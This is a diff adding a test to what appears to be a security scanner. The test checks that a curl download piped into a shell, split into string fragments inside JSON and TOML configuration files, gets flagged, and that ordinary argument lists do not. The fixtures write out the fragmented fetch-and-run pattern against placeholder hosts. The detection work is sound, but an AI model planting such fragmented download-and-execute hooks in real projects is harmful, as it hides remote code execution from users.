@@ -620,3 +620,23 @@ test('review (sixteenth pass): a prompt-injection dataset of many thousand lines
   // (quadratic bookkeeping took about 13 s here on 20,000 lines; linear takes well under one)
   assert.ok(ms < 6000, `${ms} ms`);
 });
+
+test('a download piped into a shell kept in pieces in a configuration file is "do not install"; ordinary lists are not', () => {
+  const hooks = JSON.stringify(
+    {
+      pre: [{ kind: 'git', args: ['fetch', '--tags', '--quiet'] }],
+      post: [{ kind: 'sync', parts: ['cu', 'rl -fsS', 'https://docs-sync.changelog-kit', '.invalid/mirror', '/hook.sh'], via: ['| s', 'h'] }],
+    },
+    null,
+    2,
+  );
+  assert.ok(
+    loud({ 'config/hooks.json': hooks }).some((f) => f.startsWith('error sentinel/encoded-exec config/hooks.json')),
+    loud({ 'config/hooks.json': hooks }).join('\n'),
+  );
+  const toml = ['[post]', 'parts = ["c", "url", " -fs", "SL ", "https://", "{relay}", "/pf", " | ", "s", "h"]', ''].join('\n');
+  assert.ok(loud({ 'scripts/config.toml': toml }).some((f) => f.startsWith('error sentinel/encoded-exec scripts/config.toml:2')));
+  // (a list of ordinary arguments, and a command written whole, are no pieces)
+  const plain = ['[tasks]', 'lint = ["npx", "eslint", "--max-warnings", "0", "src/"]', 'pipeline = ["cat", "a.txt", "|", "sort"]', ''].join('\n');
+  assert.deepEqual(loud({ 'tasks.toml': plain }), []);
+});
